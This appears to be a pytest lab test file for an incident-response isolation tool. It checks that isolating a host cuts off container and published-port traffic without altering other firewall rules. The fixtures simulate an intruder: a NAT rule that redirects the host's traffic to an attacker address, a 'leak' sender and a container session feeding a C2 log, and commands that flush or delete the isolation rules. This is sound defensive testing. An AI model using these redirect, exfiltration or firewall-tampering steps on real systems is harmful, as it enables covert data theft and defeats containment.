"""Other people's rules and containers on the host: their traffic is cut, their rules are left alone to the byte."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.lab.contain import Console, Remedy, eventually, restored

from remedy.lab import Lab

pytestmark = pytest.mark.lab

NAME, ADDRESS = "web01", "198.18.1.11"
_ATTACKER = "198.18.0.66"

#: firewalld-like and hand-made tables, and what Docker makes by iptables for one published port.
_TABLES = """\
table inet firewalld {
  chain filter_INPUT {
    type filter hook input priority 10; policy accept;
    ct state { established, related } accept
    tcp dport 80 accept comment "http"
  }
  chain filter_FORWARD {
    type filter hook forward priority 10; policy accept;
    accept
  }
}
table inet handmade {
  set banned {
    type ipv4_addr
    flags timeout
  }
  chain first {
    type filter hook input priority -400; policy accept;
    ip saddr 198.18.0.66 accept
  }
}
table bridge handmade {
  chain pass {
    type filter hook forward priority -400; policy accept;
    accept
  }
}
"""
_DOCKER = """\
*nat
:DOCKER - [0:0]
-A PREROUTING -m addrtype --dst-type LOCAL -j DOCKER
-A OUTPUT -d 198.18.1.11/32 -p udp -m udp --dport 5353 -j DNAT --to-destination 198.18.0.66:4444
-A POSTROUTING -s 198.19.7.0/24 ! -o docker0 -j MASQUERADE
-A DOCKER ! -i docker0 -p tcp -m tcp --dport 8080 -j DNAT --to-destination 198.19.7.2:8080
COMMIT
*filter
:DOCKER - [0:0]
-A FORWARD -o docker0 -j ACCEPT
-A FORWARD -i docker0 -j ACCEPT
-A FORWARD -j DOCKER
-A DOCKER -d 198.19.7.2/32 ! -i docker0 -o docker0 -p tcp -m tcp --dport 8080 -j ACCEPT
COMMIT
"""
#: Two containers on a bridge: network namespaces held by sleeping processes.
_CONTAINERS = """\
set -e
echo 1 >/proc/sys/net/ipv4/ip_forward
ip link add docker0 type bridge
ip address add 198.19.7.1/24 dev docker0
ip link set docker0 up
for n in 2 3; do
  unshare -n sleep 900 </dev/null >/dev/null 2>&1 &
  sleep 0.3
  echo $! >/run/container$n
  ip link add c$n type veth peer name eth0 netns $!
  ip link set c$n master docker0 up
  in="nsenter --net=/proc/$!/ns/net"
  $in ip link set lo up
  $in ip address add 198.19.7.$n/24 dev eth0
  $in ip link set eth0 up
  $in ip route add default via 198.19.7.1
  $in python3 -m http.server 8080 --directory /srv </dev/null >/dev/null 2>&1 &
  echo $! >>/run/container$n
done
"""
_CLEANING = """\
kill $(cat /run/container2 /run/container3) 2>/dev/null
rm -f /run/container2 /run/container3
ip link delete docker0
echo 0 >/proc/sys/net/ipv4/ip_forward
nft flush ruleset
:
"""
_CONNECT = "import socket,sys; socket.create_connection((sys.argv[1], int(sys.argv[2])), 1)"
#: A session that says a word each 0.2 s and writes down when it last got through.
_SESSION = """
import socket, sys, time
s = socket.create_connection(('198.18.0.66', 4445), 2)
while True:
    s.sendall(b'x')
    time.sleep(0.2)
"""
_LISTENER = """
import socket, time
s = socket.create_server(('198.18.0.66', 4445))
c, _ = s.accept()
while c.recv(100):
    open('/run/heard', 'w').write(str(time.time()))
"""


class Crowded:
    """web01 with containers and other people's rules."""

    def __init__(self, host: Console) -> None:
        """The containers run."""
        self.host = host

    def container_reaches(self, number: int, address: str, port: int) -> bool:
        """Whether a container gets a TCP connection."""
        script = 'nsenter --net=/proc/$(head -1 /run/container$1)/ns/net python3 -c "$2" "$3" "$4"'
        argv = ["sh", "-c", script, "sh", str(number), _CONNECT, address, str(port)]
        return self.host.lab.exec(self.host.name, argv)[0] == 0

    def others(self) -> str:
        """Everything loaded that is not remedy's, without counters."""
        listing = json.loads(self.host.sh("nft -j -s list ruleset"))["nftables"]
        kept = [item for item in listing if "remedy_isolation" not in json.dumps(item)]
        return json.dumps(kept, indent=1)


@pytest.fixture
def remedy(lab_inventory: Path, tmp_path: Path) -> Remedy:
    """An operator with the lab's whole inventory and a new record."""
    return Remedy(lab_inventory, tmp_path / "record.db")


@pytest.fixture
def crowded(lab: Lab, remedy: Remedy) -> Iterator[Crowded]:
    """The host with its containers and rules, all removed afterwards."""
    host = Console(lab, NAME)
    for _ in restored(lab, (NAME,), remedy):
        try:
            host.sh(_CONTAINERS)
            host.sh("nft -f -", stdin=_TABLES.encode())
            host.sh("iptables-nft-restore --noflush", stdin=_DOCKER.encode())
            yield Crowded(host)
        finally:
            if host.left():
                remedy("release", NAME, "--yes", "--force")
            host.sh(_CLEANING)


def test_containers_are_cut_off_and_foreign_rules_stay(crowded: Crowded, lab: Lab, remedy: Remedy) -> None:
    """Published ports, outgoing and bridged container traffic end; every other table is the same throughout."""
    host, peer, before = crowded.host, Console(lab, "web02"), crowded.others()
    assert eventually(lambda: peer.connects(ADDRESS, 8080), 5)
    assert crowded.container_reaches(2, _ATTACKER, 4444)
    assert crowded.container_reaches(2, "198.19.7.3", 8080)

    said = remedy("isolate", NAME, "--yes", "--json")
    assert said.code == 0, said.target.get("doubts", said.err)
    assert crowded.others() == before
    assert not peer.connects(ADDRESS, 8080)
    assert not crowded.container_reaches(2, _ATTACKER, 4444)
    assert not crowded.container_reaches(2, "198.19.7.3", 8080)

    assert remedy("release", NAME, "--yes").code == 0
    assert crowded.others() == before
    assert peer.connects(ADDRESS, 8080)
    assert crowded.container_reaches(2, _ATTACKER, 4444)
    assert crowded.container_reaches(2, "198.19.7.3", 8080)
    assert not host.left()


def test_an_address_translation_of_the_intruders_is_no_way_out(crowded: Crowded, lab: Lab, remedy: Remedy) -> None:
    """A rule that sends packets for the host's own address on to the attacker does not get around the isolation."""
    host, attacker = crowded.host, Console(lab, "attacker")
    send = "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak %s', ('198.18.1.11', 5353))"

    def leaks(mark: str) -> bool:
        heard = attacker.sh("wc -l </var/log/c2.log")
        for _ in range(3):
            host.lab.exec(NAME, ["python3", "-c", send.replace("%s", mark)])
        new = "tail -n +$(($1 + 1)) /var/log/c2.log"
        return eventually(lambda: ADDRESS in attacker.sh(new, heard.strip()), 2)

    assert leaks("before"), "the way out has to be there before"
    assert remedy("isolate", NAME, "--yes").code in {0, 22}
    assert not leaks("after")


def test_a_containers_session_does_not_come_back(crowded: Crowded, lab: Lab, remedy: Remedy) -> None:
    """A session that a container held open to the attacker is dead after isolation and release."""
    host, attacker = crowded.host, Console(lab, "attacker")
    attacker.sh('setsid python3 -c "$1" </dev/null >/dev/null 2>&1 & echo $! >/run/listener', _LISTENER)
    inside = "nsenter --net=/proc/$(head -1 /run/container2)/ns/net"
    try:
        assert eventually(lambda: "4445" in attacker.sh("ss -Htln"), 5)
        host.sh(f'setsid {inside} python3 -c "$1" </dev/null >/dev/null 2>&1 & echo $! >>/run/container2', _SESSION)
        assert eventually(lambda: attacker.sh("cat /run/heard 2>/dev/null; :") != "", 5)
        assert remedy("isolate", NAME, "--yes").code in {0, 22}
        last = attacker.sh("cat /run/heard")
        assert remedy("release", NAME, "--yes").code in {0, 22}
        assert not eventually(lambda: attacker.sh("cat /run/heard") != last, 4)
    finally:
        attacker.sh("kill $(cat /run/listener); rm -f /run/heard /run/listener; :", ok=False)


@pytest.mark.parametrize(
    ("tampering", "undone"),
    [
        ("nft flush ruleset", "1"),
        ("nft insert rule inet remedy_isolation output accept", "1"),
        ("nft delete table bridge remedy_isolation", "1"),
        ("rm /etc/rcS.d/S01remedy-isolation", "k1"),
    ],
)
def test_what_an_intruder_takes_away_raises_an_alarm_and_is_put_back(
    lab: Lab, remedy: Remedy, tampering: str, undone: str
) -> None:
    """Watch tells it with 22 and in the record; with --put-back everything holds again, as the next look says."""
    host = Console(lab, NAME)
    for _ in restored(lab, (NAME,), remedy):
        said = remedy("isolate", NAME, "--yes", "--json")
        incident, rules = said.document["incident"], host.state()
        assert remedy("watch", incident, "--once").code == 0
        host.sh(tampering)
        watched = remedy("watch", incident, "--once", "--json")
        assert watched.code == 22
        assert watched.target["gone"] == [undone]
        assert remedy.entries("alarm")[-1]["body"]["gone"] == [undone]
        remedy("watch", incident, "--once", "--put-back")
        assert host.state() == rules
        assert remedy("watch", incident, "--once").code == 0
        assert remedy("release", NAME, "--yes").code == 0


@pytest.mark.parametrize("command", ["-t mangle -D INPUT -j REMEDY_IN", "-t mangle -F", "-t mangle -F REMEDY_OUT"])
def test_a_tampered_iptables_isolation_is_put_back_and_can_be_released(lab: Lab, remedy: Remedy, command: str) -> None:
    """On an iptables host too: a jump or rules taken away are told, put back, and never in the way of a release."""
    host = Console(lab, "legacy01")
    for _ in restored(lab, ("legacy01",), remedy):
        said = remedy("isolate", "legacy01", "--yes", "--json")
        incident, rules = said.document["incident"], host.state()
        host.sh(f"iptables {command}")
        assert remedy("watch", incident, "--once", "--put-back").code in {0, 22}
        assert host.state() == rules
        assert remedy("watch", incident, "--once").code == 0
        host.sh(f"iptables {command}")
        assert remedy("release", "legacy01", "--yes").code in {0, 22}
        assert not host.left()
